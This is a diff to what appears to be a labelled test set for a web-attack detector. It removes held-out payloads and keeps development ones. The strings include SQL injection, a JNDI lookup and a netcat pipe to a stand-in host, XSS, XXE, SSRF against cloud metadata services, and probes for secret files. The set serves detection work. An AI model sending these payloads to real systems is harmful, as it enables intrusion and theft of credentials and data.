@@ -39,18 +39,6 @@ DEV = (
     Payload("{{7*7}}", (("template", "template", 0.9),)),
     Payload("1' AND SLEEP(5)#", (("sqli", "sqli", 0.96),)),
 )
-HELDOUT = (
-    Payload("') or exists(select 1 from accounts where id=1)--", (("sqli", "sqli", 0.95),)),
-    Payload("admin'/**/or/**/2>1/**/--", (("sqli", "sqli", 0.95),)),
-    Payload("${jndi:ldap://203.0.113.9/a}", (("jndi", "jndi", 0.97),)),
-    Payload("<svg/onload=fetch('//203.0.113.9')>", (("xss", "xss", 0.95),)),
-    Payload("..%2f..%2f..%2fwindows/win.ini", (("path_traversal", "files", 0.997),)),
-    Payload("| nc 203.0.113.9 4444", (("command", "command", 0.85),)),
-    Payload("${T(java.lang.Runtime).getRuntime()}", (("template", "template", 0.965), ("java", "code", 0.75))),
-    Payload("*)(uid=*))(|(uid=*", (("ldap", "ldap", 0.994),)),
-    Payload("<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/hosts'>]>", (("xxe", "xxe", 0.99),)),
-    Payload("__proto__[admin]=1", (("prototype", "prototype", 0.9),)),
-)
 _INCLUDED = ("inclusion", "files", 0.55)
 DEV_LINKS = (
     Payload("http://169.254.169.254/latest/meta-data/iam/", (("ssrf", "ssrf", 0.995), _INCLUDED)),
@@ -58,21 +46,10 @@ DEV_LINKS = (
     Payload("http://127.0.0.1:6379/", (("ssrf", "ssrf", 0.9), _INCLUDED)),
     Payload("file:///etc/passwd", (("path_traversal", "files", 0.976),)),
 )
-HELDOUT_LINKS = (
-    Payload("http://[::ffff:169.254.169.254]/computeMetadata/v1/", (("ssrf", "ssrf", 0.975),)),
-    Payload("http://2130706433/server-status", (("ssrf", "ssrf", 0.75),)),
-    Payload("gopher://10.0.0.5:6379/_INFO", (("ssrf", "ssrf", 0.972),)),
-    Payload("http://metadata.google.internal/computeMetadata/v1/", (("ssrf", "ssrf", 0.999),)),
-)
 _FILE = (("path_traversal", "files", 0.8),)
 DEV_PATHS = (
     *(Payload(path, _FILE) for path in ("/.env", "/.git/config")),
     Payload("/phpinfo.php", (("php", "code", 0.925),)),
     *map(Payload, ("/admin", "/actuator/env", "/swagger.json", "/api-docs", "/debug", "/console", "/backup.zip",
                    "/internal/status", "/server-status", "/metrics", "/test", "/old")),
-)  # fmt: skip
-HELDOUT_PATHS = (
-    Payload("/wp-login.php", ()),
-    *map(Payload, ("/management/heapdump", "/openapi.yaml", "/graphiql", "/jolokia/list", "/config.json", "/trace",
-                   "/staging", "/dump.sql", "/private", "/health/full", "/rpc", "/solr", "/beta/users", "/_cat")),
 )  # fmt: skip
